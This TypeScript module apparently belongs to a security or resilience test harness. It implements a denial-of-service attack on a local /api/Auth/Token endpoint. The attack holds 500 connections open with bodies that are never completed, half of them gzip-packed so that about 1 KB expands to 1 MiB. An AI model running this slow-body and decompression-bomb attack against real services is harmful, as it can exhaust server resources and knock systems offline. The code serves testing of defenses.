import { constants, createGzip } from 'node:zlib';
import { holdConnections } from '../../support/attack/strangers.js';
import type { Attack } from '../attack.js';

const CONNECTIONS = 500;
const BODY_BYTES = 1_048_576;

/** The start of a body that never ends, packed: about 1 KB for 1 MiB. */
async function packedStart(): Promise<Buffer> {
  const gzip = createGzip();
  const chunks: Buffer[] = [];
  gzip.on('data', (chunk: Buffer) => chunks.push(chunk));
  gzip.write(`{"userName":"${'a'.repeat(BODY_BYTES - 100)}`);
  await new Promise<void>((resolve) => {
    gzip.flush(constants.Z_SYNC_FLUSH, resolve);
  });
  return Buffer.concat(chunks);
}

const head = (encoding: string): string =>
  [
    'POST /api/Auth/Token HTTP/1.1',
    'Host: 127.0.0.1',
    'Content-Type: application/json',
    ...(encoding === '' ? [] : [`Content-Encoding: ${encoding}`]),
    `Content-Length: ${BODY_BYTES}`,
  ].join('\r\n');

/** Bodies of the token call that are never complete, half of them packed, and again whenever a connection is closed. */
export const halfSentBodies: Attack = {
  title: `${CONNECTIONS} connections with bodies that never end`,
  by: 'stranger',
  async run(target) {
    const packed = await packedStart();
    const plain = Buffer.from(`{"userName":"${'a'.repeat(BODY_BYTES - 100)}`);
    return holdConnections(
      target,
      CONNECTIONS,
      (index) => `127.0.3.${1 + (index % 4)}`,
      (socket, index) => {
        const isPacked = index % 2 === 0;
        socket.resume();
        socket.write(`${head(isPacked ? 'gzip' : '')}\r\n\r\n`);
        socket.write(isPacked ? packed : plain);
      },
    );
  },
};
